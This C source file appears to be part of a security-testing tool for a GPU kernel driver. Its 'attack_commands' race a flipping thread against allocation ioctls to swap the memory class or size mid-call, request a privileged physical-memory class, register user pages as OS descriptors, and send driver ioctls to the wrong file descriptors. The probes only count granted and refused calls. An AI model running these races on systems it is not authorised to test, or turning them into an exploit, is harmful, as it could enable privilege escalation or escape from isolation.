/* Messages that change while they are looked at, classes that aren't for everyone, and files that aren't the GPU's. */
#include "rawgpu.h"

#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>

/* What the other thread writes to, in turn one and the other, until told to stop. */
struct flipped {
    _Atomic uint32_t *class;
    _Atomic uint64_t *size;
    uint64_t one, other;
    _Atomic bool stop;
};

static void *flip(void *argument)
{
    struct flipped *flipped = argument;
    while (!flipped->stop) {
        if (flipped->class) {
            *flipped->class = (uint32_t)flipped->one;
            *flipped->class = (uint32_t)flipped->other;
        } else {
            *flipped->size = flipped->one;
            *flipped->size = flipped->other;
        }
    }
    return NULL;
}

static double now(void)
{
    struct timespec time;
    clock_gettime(CLOCK_MONOTONIC, &time);
    return (double)time.tv_sec + (double)time.tv_nsec / 1e9;
}

/* Makes the call again and again for so long while the other thread flips; keeps all that it gets. */
static void race(struct flipped *flipped, double seconds, struct rm_alloc *message, const struct gpu *gpu)
{
    uint64_t granted = 0, denied = 0;
    struct result last = {0};
    pthread_t thread;
    if (pthread_create(&thread, NULL, flip, flipped) != 0)
        die("a thread");
    for (double end = now() + seconds; now() < end;) {
        message->handle = 0;
        struct result result = call(gpu->fd, ESC_ALLOC, message, sizeof *message, &message->status);
        if (refused(result)) {
            denied++;
            last = result;
        } else {
            granted++;
        }
    }
    flipped->stop = true;
    pthread_join(thread, NULL);
    printf("%llu granted, %llu refused, last ", (unsigned long long)granted, (unsigned long long)denied);
    print_result(last);
}

static void swapclass(char **arguments)
{
    struct gpu gpu = open_gpu();
    struct rm_memory_params params = {.owner = OWNER, .size = number(arguments[1]) * MIB};
    struct rm_alloc message = alloc_message(&gpu, CLASS_MEMORY_SYSTEM, &params, sizeof params);
    struct flipped flipped = {
        .class = (_Atomic uint32_t *)&message.cls, .one = CLASS_MEMORY_SYSTEM, .other = CLASS_MEMORY_LOCAL_USER,
    };
    race(&flipped, (double)number(arguments[0]), &message, &gpu);
}

static void swapsize(char **arguments)
{
    struct gpu gpu = open_gpu();
    struct rm_memory_params params = {.owner = OWNER, .size = GRANULE};
    struct rm_alloc message = alloc_message(&gpu, CLASS_MEMORY_LOCAL_USER, &params, sizeof params);
    struct flipped flipped = {
        .size = (_Atomic uint64_t *)&params.size, .one = GRANULE, .other = number(arguments[1]) * MIB,
    };
    race(&flipped, (double)number(arguments[0]), &message, &gpu);
}

static struct result physical(const struct gpu *gpu, uint64_t *size, uint32_t *handle)
{
    struct rm_memory_params params = {.owner = OWNER, .size = *size};
    struct result result = alloc_class(gpu, CLASS_MEMORY_LOCAL_PHYSICAL, &params, sizeof params, handle);
    *size = params.size;
    return result;
}

static void privileged(char **arguments)
{
    struct gpu gpu = open_gpu();
    fill(&gpu, physical, number(arguments[0]) * MIB);
}

/* NV_OS_DESC_MEMORY_ALLOCATION_PARAMS: type, flags, attr, attr2, the address, the last byte: pages of this program. */
static void osdesc(char **arguments)
{
    struct gpu gpu = open_gpu();
    uint64_t size = number(arguments[0]) * MIB;
    struct {
        uint32_t type, flags, attributes, attributes2;
        uint64_t descriptor, limit;
        uint32_t descriptor_type, tag;
        uint8_t after[128];
    } params = {.descriptor = (uintptr_t)malloc(size), .limit = size - 1};
    uint32_t handle;
    print_result(alloc_class(&gpu, CLASS_OS_DESCRIPTOR, &params, sizeof params, &handle));
}

/* Every request that is looked at, on one file: the errno of each, 0 where it is taken. */
static void print_errors(const char *name, int fd)
{
    static const struct {
        unsigned escape;
        size_t size;
    } requests[] = {
        {ESC_ALLOC, sizeof(struct rm_alloc)},
        {ESC_ALLOC, sizeof(struct rm_alloc_old)},
        {ESC_FREE, sizeof(struct rm_free)},
        {ESC_VID_HEAP_CONTROL, sizeof(struct rm_vid_heap)},
        {ESC_ALLOC_MEMORY, sizeof(struct rm_alloc_memory)},
        {ESC_DUP_OBJECT, sizeof(struct rm_dup)},
        {ESC_XFER_CMD, sizeof(struct rm_xfer)},
    };
    printf("%s", name);
    for (size_t i = 0; i < sizeof requests / sizeof *requests; i++) {
        uint64_t message[32] = {0};
        int answer = ioctl(fd, request(requests[i].escape, requests[i].size), message);
        printf(" %d", answer < 0 ? errno : 0);
    }
}

static void wrongfd(char **arguments)
{
    (void)arguments;
    int ends[2], null = open("/dev/null", O_RDWR | O_CLOEXEC), connection = socket(AF_UNIX, SOCK_STREAM, 0);
    if (null < 0 || connection < 0 || pipe(ends) < 0)
        die("files");
    print_errors("null", null);
    print_errors(", pipe", ends[0]);
    print_errors(", socket", connection);
    print_errors(", closed", -1);
    printf("\n");
    fflush(stdout);
}

const struct subcommand attack_commands[] = {
    {"swapclass", "SECONDS MIB", 2, swapclass},
    {"swapsize", "SECONDS MIB", 2, swapsize},
    {"privileged", "MIB", 1, privileged},
    {"osdesc", "MIB", 1, osdesc},
    {"wrongfd", "", 0, wrongfd},
    {0},
};
